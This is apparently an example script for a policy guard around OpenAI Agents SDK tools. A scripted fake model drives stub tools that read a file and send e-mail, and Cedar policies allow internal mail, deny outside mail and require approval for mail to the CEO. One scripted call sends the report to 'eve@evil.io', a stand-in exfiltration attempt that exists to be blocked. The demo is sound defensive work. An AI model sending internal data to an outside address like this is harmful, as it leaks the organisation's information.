"""OpenAI Agents SDK function tools guarded by Tether, run by the SDK's own Runner with no LLM: a
scripted model makes the tool calls a real one might (tracing is off, so nothing leaves the
machine).

Run it with `python examples/openai_agents_agent.py`; it keeps its store in a temporary folder.
"""

from __future__ import annotations

import asyncio
import json
import tempfile
from collections.abc import AsyncIterator
from typing import Any

from agents import Agent, ModelResponse, RunConfig, Runner, Usage, function_tool
from agents.items import TResponseOutputItem
from agents.models.interface import Model
from openai.types.responses import (
    ResponseFunctionToolCall,
    ResponseOutputMessage,
    ResponseOutputText,
)

from tether import Guard
from tether.sdk.openai_agents import guard_tools, register_tool

POLICIES = {
    "acme.cedar": """
@id("reads") @reason("reading is fine")
permit (principal, action in Action::"read", resource);

@id("mail-inside") @reason("mail inside acme is fine")
permit (principal, action == Action::"send_email", resource)
when { context.args.to like "*@acme.com" };

@id("ceo-needs-approval") @approval("admin") @reason("mail to the CEO needs a person's approval")
forbid (principal, action == Action::"send_email", resource)
when { context.args.to == "ceo@acme.com" } unless { context.approved };
""",
}


@function_tool
def send_email(to: str, body: str) -> str:
    """Send an e-mail.

    Args:
        to: the recipient's address
        body: the message
    """
    return f"sent to {to}"


@function_tool
async def read_file(path: str) -> str:
    """Read a file from the repository."""
    return f"contents of {path}"


class ScriptedModel(Model):
    """Each turn, the calls the script gives; then a final answer listing what it was told."""

    def __init__(self, turns: list[list[tuple[str, dict[str, Any]]]]) -> None:
        self.turns, self.made = turns, 0
        self.told: dict[str, Any] = {}  # call id -> the output the model was sent

    async def get_response(self, *args: Any, **kwargs: Any) -> ModelResponse:
        for item in kwargs.get("input") or args[1]:
            if isinstance(item, dict) and item.get("type") == "function_call_output":
                self.told.setdefault(item["call_id"], item["output"])
        if not self.turns:
            text = ResponseOutputText(type="output_text", text="Done.", annotations=[])
            message = ResponseOutputMessage(
                type="message", id="m", role="assistant", status="completed", content=[text]
            )
            return ModelResponse(output=[message], usage=Usage(), response_id=None)
        calls: list[TResponseOutputItem] = []
        for name, arguments in self.turns.pop(0):
            self.made += 1
            calls.append(
                ResponseFunctionToolCall(
                    type="function_call",
                    call_id=f"call_{self.made}",
                    name=name,
                    arguments=json.dumps(arguments),
                )
            )
        return ModelResponse(output=calls, usage=Usage(), response_id=None)

    def stream_response(self, *args: Any, **kwargs: Any) -> AsyncIterator[Any]:
        raise NotImplementedError("the scripted model does not stream")


async def main() -> None:
    with Guard.embedded(home=tempfile.mkdtemp(prefix="tether-agents-")) as guard:
        guard.add_workspace("acme")
        guard.register_agent("acme", "coder", kind="coder", owner="alice@acme.com")
        # The tools' names, descriptions and schemas come from the SDK; what they do is ours.
        register_tool(guard, send_email, workspace="acme", effects=["external"], sinks=["to"])
        register_tool(guard, read_file, workspace="acme", effects=["read"])
        guard.activate_policies("acme", POLICIES)
        guard.add_user("acme", "alice", ["admin"])
        guard.grant("acme", user="alice", agent="coder", tools=["send_email", "read_file"])

        model = ScriptedModel(
            [
                [("read_file", {"path": "/repo/report.md"})],
                [  # two calls in one turn: the Runner makes them concurrently
                    ("send_email", {"to": "bob@acme.com", "body": "the report"}),
                    ("send_email", {"to": "eve@evil.io", "body": "the report"}),
                ],
                [("send_email", {"to": "ceo@acme.com", "body": "the report"})],
            ]
        )
        agent = Agent(
            name="mailer",
            model=model,
            tools=guard_tools(guard, [send_email, read_file], workspace="acme"),
        )
        with guard.task(
            workspace="acme",
            agent="coder",
            user="alice",
            request="Mail the report to the team",
            tools=["send_email", "read_file"],
        ) as task:
            result = await Runner.run(
                agent, "Mail the report to the team", run_config=RunConfig(tracing_disabled=True)
            )
            for call_id, output in model.told.items():
                print(f"{call_id}: {output}")
            print("final output:", result.final_output)
            state = task.state
            print(f"task: {state.allowed} allowed, {state.denied} denied, {state.executed} run")


if __name__ == "__main__":
    asyncio.run(main())
